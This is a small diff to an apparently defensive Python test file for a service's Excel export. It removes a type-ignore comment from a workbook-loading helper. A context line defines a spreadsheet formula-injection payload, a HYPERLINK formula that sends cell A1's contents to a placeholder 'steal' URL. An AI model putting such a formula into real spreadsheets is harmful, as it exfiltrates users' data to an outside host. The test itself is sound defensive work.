@@ -126,7 +126,7 @@ def test_the_service_itself_refuses_out_of_range_and_out_of_scope(city, classes)
 HOSTILE = '=HYPERLINK("http://example.org/steal?"&A1,"点击查看")'
 
 
-def _workbook(response):  # type: ignore[no-untyped-def]
+def _workbook(response):
     assert response.status_code == 200, response.status_code
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     return openpyxl.load_workbook(io.BytesIO(response.content)).active
